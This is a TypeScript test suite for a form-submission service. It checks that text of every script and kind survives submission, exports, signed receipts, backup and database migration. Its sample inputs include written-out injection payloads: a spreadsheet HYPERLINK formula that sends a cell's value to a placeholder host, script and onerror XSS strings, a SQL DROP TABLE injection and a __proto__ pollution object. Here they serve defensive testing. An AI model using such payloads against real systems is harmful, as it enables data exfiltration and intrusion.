/**
 * Every kind of text that somebody may type or paste, from the submission to everywhere it comes out again: for officers, in
 * exports, in what a receipt is about, after a backup was restored and after a move to PostgreSQL. Each is kept to the last
 * code unit as it stands in the column beside it, or refused with the place.
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type KeySet, verifyReceipt } from '@guichet/receipts'
import type { Answers, ServiceDefinition } from '@guichet/schemas'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { unguarded } from './cases/export/csv.ts'
import { run } from './cli.ts'
import { readCsv } from './testing/formulas.ts'
import { agencyOf, type Person, personIn } from './testing/people.ts'
import { type Cluster, newDatabase, postgresIsThere, startCluster } from './testing/postgres.ts'
import { createWorld, definitionOf, own, type World } from './testing/world.ts'

const text = (id: string, type: string, more: object) => ({ id, type, label: { en: id }, purpose: { en: 'To keep it' }, optional: true, ...more })
const texts = definitionOf((definition) => {
  const fields = [
    text('line', 'text', { maxLength: 10_000 }),
    text('lines', 'textarea', { maxLength: 20_000 }),
    text('rows', 'group', { repeat: { min: 0, max: 20 }, fields: [text('holder', 'textarea', { maxLength: 20_000 })] }),
  ]
  const intake = { id: 'intake', label: { en: 'Intake' }, unit: 'desk', decisions: ['reject'] }
  const pages: ServiceDefinition['pages'] = [{ id: 'all', title: { en: 'All' }, fields: fields as never }]
  Object.assign(definition, { id: 'texts', languages: ['en'], documents: [], computed: [], routes: [{ to: 'intake' }], stages: [intake], pages })
  delete (definition as Partial<ServiceDefinition>).fee
})
const policy = { rules: { rate: { submissionsPerHour: 100_000 } } }

/** What is kept to the last code unit. */
const asTheyAre: Record<string, string> = {
  Vietnamese: 'Nguyễn Thị Phương Thảo, 12 đường Lê Lợi',
  Persian: 'می‌خواهم «گواهی» بگیرم؛ نامه‌ها را بفرستید',
  Greek: 'Ελευθέριος Ϊ́ Άνθρωπος, ὁ καὶ τῶν',
  Hungarian: 'Árvíztűrő tükörfúrógép, őŐűŰ',
  'Hebrew with points': 'שָׁלוֹם עֲלֵיכֶם',
  'combining marks that have no composed form': 'x̣̃ q̈ ģ̂',
  'a hundred marks on a letter': `e${'\u0323\u0334'.repeat(50)}`.normalize('NFC'),
  'a family of joined emoji': '👨‍👩‍👧‍👦 👩🏽‍🚀 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇻🇳 1️⃣',
  'four bytes, rare scripts': '𠀀𠮷 𐎠𐎡 𝒜 𞤀',
  'the last code points': '\u{10fffd} \ufffd \ufdfa',
  'variation selectors': '葛󠄀 ☂︎ ☂️',
  'a formula': '=1+1',
  'a formula that calls': '=HYPERLINK("http://x.example?"&A1,"x")',
  'a formula behind a blank': '\u3000=1+1'.trim(),
  'other starts of formulas': '@SUM(1) +1 -1',
  'what looks guarded': "'=1+1",
  'full-width signs': '＝1 ＠',
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>&amp;&#0;',
  SQL: `'); DROP TABLE submissions; -- " \`x\` $1 ? :a @b %s`,
  'JSON in text': '{"a":"\\u0000","__proto__":{"x":1},"b":[null]}',
  'names of prototypes': '__proto__ constructor prototype toString',
  backslashes: '\\ \\\\ \\n \\u0000 \\x00 \\',
  quotes: '" "" """ , ; \' ` “ ” « »',
  'percent and plus': '%00 %u0000 %C0%80 a+b&c=d#e?f',
  templates: '{name} $x$ {{y}} %s <%= z %>',
  YAML: 'no: yes\n- null\n~',
  'lines and blanks between': 'first\n\n  second  line \n third',
  'a blank of every kind': 'a\u00a0b\u2009c\u202fd\u3000e',
  'a joiner, a non-joiner, a word joiner': 'a\u200db\u200cc\u2060d\u200be',
  'digits that stay': '²³½ Ⅳ ①',
  'a long line': 'long '.repeat(3999).trim(),
  'four bytes at every boundary': '😀'.repeat(20_000),
  'one, two, three and four bytes in turn': 'aé€😀'.repeat(999),
}
/** What is kept otherwise, on purpose: composed, on lines that end with \n, with ASCII digits, without what cannot be seen. */
const otherwise: Record<string, readonly [typed: string, kept: string]> = {
  'decomposed Vietnamese': ['Nguyễn Thị Phương'.normalize('NFD'), 'Nguyễn Thị Phương'],
  'decomposed Hangul': ['한국어'.normalize('NFD'), '한국어'],
  'the sign for Ångström': ['1 \u212b', '1 Å'],
  'ends of lines': ['a\r\nb\rc\u2028d\u2029e\u0085f', 'a\nb\nc\nd\ne\nf'],
  'marks of direction': ['\u200fنام: \u2066John\u2069 \u202eabc\u202c\u061c', 'نام: John abc'],
  controls: ['a\u0001b\u001bc\u007fd\u009fe\u00adf\ufeffg', 'abcdefg'],
  tabs: ['a\tb', 'a b'],
  'Persian and Arabic digits': ['۱۲۳ ٤٥٦ ３', '123 456 3'],
  'blanks around': ['  a  ', 'a'],
}
const samples = [
  ...Object.entries(asTheyAre).map(([what, typed]) => [what, typed, typed] as const),
  ...Object.entries(otherwise).map(([what, [typed, kept]]) => [what, typed, kept] as const),
]
/** On one line there are single blanks. */
const onOneLine = (kept: string) => kept.replace(/\s{2,}|[^\S ]/g, ' ')

interface Sent {
  submission: string
  reference: string
  answers: Answers
}
const answersWith = (kept: string): Answers =>
  kept === '' ? { rows: [{}] } : { line: onOneLine([...kept].slice(0, 10_000).join('')).trim(), lines: kept, rows: [{ holder: kept }] }

/** In pieces that end within characters, as a network delivers them. */
function inPieces(body: string): ReadableStream<Uint8Array> {
  const bytes = Buffer.from(body)
  let at = 0
  return new ReadableStream({
    pull(controller) {
      if (at >= bytes.length) return controller.close()
      controller.enqueue(bytes.subarray(at, (at += bytes.length < 2000 ? 1 : 1021)))
    },
  })
}

let keys = 0
const post = (world: World, body: string) =>
  world.request('/v1/services/city/texts/submissions', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Idempotency-Key': `texts-key-${++keys}` },
    body: inPieces(body),
    duplex: 'half',
  } as RequestInit)
const bodyOf = (typed: string) =>
  JSON.stringify({ version: 1, language: 'en', answers: { line: [...typed].slice(0, 10_000).join(''), lines: typed, rows: [{ holder: typed }] } })

async function send(world: World, typed: string, kept: string): Promise<Sent> {
  const response = await post(world, bodyOf(typed))
  const { submission, reference, ...more } = await response.json()
  expect([response.status, more.errors]).toEqual([201, undefined])
  return { submission, reference, answers: answersWith(kept) }
}

/** Everything that an officer and a citizen get of them, held against what was sent. */
async function readEverywhere(world: World, reader: Person, sent: readonly Sent[]): Promise<void> {
  const purpose = '?purpose=test'
  const exported = async (format: string) => {
    const bytes = await (await reader.call('GET', `services/texts/export.${format}${purpose}`)).arrayBuffer()
    return new TextDecoder('utf-8', { fatal: true }).decode(bytes)
  }
  const lines = (await exported('jsonl'))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Sent)
  const bySubmission = new Map(lines.map((line) => [line.submission, line.answers]))
  const [head = [], ...records] = readCsv(await exported('csv'))
  const cells = new Map(records.map((record) => [unguarded(record[0] ?? ''), record]))
  const published = (await (await world.request('/.well-known/guichet/keys.json')).json()) as unknown as KeySet
  for (const { submission, reference, answers } of sent) {
    const opened = await (await reader.call('GET', `cases/${submission}${purpose}`)).json()
    expect(opened.answers).toEqual(answers)
    expect(bySubmission.get(submission)).toEqual(answers)
    const cell = (name: string) => unguarded(cells.get(submission)?.[head.indexOf(`answers.${name}`)] ?? '')
    expect([cell('line'), cell('lines'), cell('rows')]).toEqual([answers.line ?? '', answers.lines ?? '', JSON.stringify(answers.rows)])
    const receipt = await world.request('/v1/receipt', {
      method: 'POST',
      // Nobody looks for so many.
      client: `2001:db8:${submission.slice(-4)}::${++keys}`.toLowerCase().replace(/[^0-9a-f:]/g, 'a'),
      headers: { 'Content-Type': 'application/json', Origin: own },
      body: JSON.stringify({ reference }),
    })
    expect(await verifyReceipt({ file: await receipt.text(), keys: published, answers })).toMatchObject({ signature: 'trusted', content: 'same' })
  }
}

/** What was sealed before it was copied is opened or not, whatever it says. */
const some = (sent: readonly Sent[]) => sent.filter((_, i) => i % 3 === 0)

const call = async (args: string[], env: Record<string, string>) => {
  const said: string[] = []
  const write = (told: string) => said.push(told)
  const code = await run(args, { PATH: process.env.PATH, EXAMPLES_DIR: 'off', ...env }, { out: { write }, err: { write } })
  return { code, said: said.join('') }
}

interface Place {
  env: Record<string, string>
  /** An empty database to restore to. */
  fresh(): Promise<Record<string, string>>
}

function suite(open: () => Promise<Place>, more: (at: () => { world: World; sent: readonly Sent[] }) => void = () => {}) {
  let place: Place
  let world: World
  let reader: Person
  let sent: Sent[]
  beforeAll(async () => {
    place = await open()
    world = await createWorld(place.env)
    await world.offer(texts, policy)
    reader = await readerOf(world, 'a')
    sent = []
    for (const [, typed, kept] of samples) sent.push(await send(world, typed, kept))
  }, 60_000)
  afterAll(() => world?.close())

  it('come out everywhere as they were kept', async () => {
    await readEverywhere(world, reader, sent)
    // The control: a receipt tells one normal form from the other, and so does what is compared here.
    const [vietnamese] = sent
    const other = { ...vietnamese!, answers: answersWith(asTheyAre.Vietnamese!.normalize('NFD')) }
    await expect(readEverywhere(world, reader, [other])).rejects.toThrow()
  }, 60_000)

  it('that cannot be kept are refused with the place, and nothing of them is', async () => {
    const before = sent.length
    for (const [typed, pointer] of [
      ['half of a character \ud83d', '/answers/line'],
      ['\udc00 the other half', '/answers/line'],
      ['a NUL \0', '/answers/line'],
    ] as const) {
      const response = await post(world, bodyOf(typed))
      const { errors } = await response.json()
      expect([response.status, errors]).toEqual([400, [{ pointer, code: 'json.taken', detail: expect.stringMatching(/NUL/) }]])
    }
    for (const [answers, pointer] of [
      ['{"line":"a","__proto__":"b"}', '/answers/__proto__'],
      ['{"rows":[{"holder":"\\u0000"}]}', '/answers/rows/0/holder'],
      ['{"rows":[{"holder":"a"},{"constructor":"\\u0000"}]}', '/answers/rows/1/constructor'],
    ] as const) {
      const response = await post(world, `{"version":1,"language":"en","answers":${answers}}`)
      expect([response.status, (await response.json()).errors[0]?.pointer]).toEqual([400, pointer])
    }
    const longer = await post(world, JSON.stringify({ version: 1, language: 'en', answers: { line: '😀'.repeat(10_001) } }))
    expect([longer.status, (await longer.json()).errors[0]?.pointer]).toEqual([422, '/line'])
    expect(await (await agencyOf(world, 'city')).submissions()).toHaveLength(before)
  })

  it('of any kind are kept whole, refused, or kept as they would be kept again', async () => {
    const piece = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.constantFrom(...Object.values(asTheyAre).filter(({ length }) => length < 200)),
      fc.constantFrom('\ud800', '\udfff', '\0', '\r\n', '\u2028', '\u202e', "'", '=', '"', '\\', '\u0301', '۱'),
    )
    const typed = fc.array(piece, { maxLength: 5 }).map((pieces) => pieces.join(''))
    const kept: Sent[] = []
    await fc.assert(
      fc.asyncProperty(typed, async (input) => {
        const response = await post(world, bodyOf(input))
        if (!input.isWellFormed() || input.includes('\0')) {
          expect(response.status).toBe(400)
          return
        }
        const { submission, reference } = await response.json()
        expect(response.status).toBe(201)
        const { answers } = await (await reader.call('GET', `cases/${submission}?purpose=test`)).json()
        const { lines = '' } = answers as { lines?: string }
        // Nothing that can be seen is lost: apart from what is said above it is the composed form of what was typed.
        if (!/[\p{C}\p{Zl}\p{Zp}\u0660-\u066c\u06f0-\u06f9\uff10-\uff19]/u.test(input)) expect(lines).toBe(input.normalize('NFC').trim())
        // What came out can be sent in, and comes out the same.
        kept.push(await send(world, lines, lines), { submission, reference, answers: answersWith(lines) })
      }),
      { numRuns: 25 },
    )
    await readEverywhere(world, reader, kept)
  }, 60_000)

  it('that officers write reach the citizen, and a NUL in them is refused with the place', async () => {
    const [one] = sent
    const note = Object.values(asTheyAre)
      .filter(({ length }) => length < 200)
      .join('\n')
    const decide = (words: string) => reader.call('POST', `cases/${one!.submission}/decisions`, { decision: 'reject', note: words }, { 'If-Match': '"1"' })
    const refused = await decide('a \0 b')
    expect([refused.status, (await refused.json()).errors[0]?.pointer]).toEqual([400, '/note'])
    const decided = await decide(note)
    expect(decided.status).toBe(200)
    expect(await (await reader.call('GET', `cases/${one!.submission}?purpose=test`)).json()).toMatchObject({ history: [{ note }] })
    const status = await world.request('/v1/status', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ reference: one!.reference }),
    })
    expect(await status.json()).toMatchObject({ decision: { reason: note } })
  })

  it('are the same after a backup was restored', async () => {
    const to = mkdtempSync(join(tmpdir(), 'guichet-texts-'))
    const env = { ...place.env, DATA_DIR: world.folder }
    const made = await call(['backup', '--to', join(to, 'backups'), '--keys', join(to, 'keys')], env)
    expect(made).toMatchObject({ code: 0 })
    const [backup = '', backedKeys = ''] = made.said.split('\n').flatMap((line) => (line.startsWith(to) ? [line.split('\t')[0] as string] : []))
    const fresh = await place.fresh()
    expect(await call(['restore', backup, '--keys', backedKeys], { ...fresh, DATA_DIR: join(to, 'data') })).toMatchObject({ code: 0 })
    const again = await createWorld({ ...fresh, DATA_DIR: join(to, 'data') })
    try {
      await readEverywhere(again, await readerOf(again, 'b'), some(sent))
    } finally {
      await again.close()
      rmSync(to, { recursive: true })
    }
  }, 60_000)

  more(() => ({ world, sent }))
}

const readerOf = async (world: World, name: string) => personIn(world, await agencyOf(world, 'city'), `${name}@city.example`, [{ role: 'owner' }])

let cluster: Cluster
beforeAll(async () => {
  if (postgresIsThere()) cluster = await startCluster()
}, 60_000)
afterAll(() => cluster?.stop())

const emptyDatabase = async () => {
  const { url, ownerUrl, adminUrl } = await newDatabase(cluster)
  return { DATABASE_URL: url, DATABASE_OWNER_URL: ownerUrl, DATABASE_BACKUP_URL: adminUrl }
}

describe('texts, on SQLite,', () => {
  suite(
    async () => ({ env: {}, fresh: async () => ({}) }),
    (at) => {
      it.skipIf(!postgresIsThere())(
        'are the same after a move to PostgreSQL',
        async () => {
          const { world, sent } = at()
          const database = await emptyDatabase()
          expect(await call(['move', '--to', database.DATABASE_URL], { DATA_DIR: world.folder, ...database })).toMatchObject({ code: 0 })
          const moved = await createWorld({ ...database, DATA_DIR: world.folder })
          await readEverywhere(moved, await readerOf(moved, 'c'), some(sent)).finally(() => moved.close())
        },
        60_000,
      )
    },
  )
})

describe.skipIf(!postgresIsThere())('texts, on PostgreSQL,', () => {
  suite(async () => ({ env: await emptyDatabase(), fresh: emptyDatabase }))
})
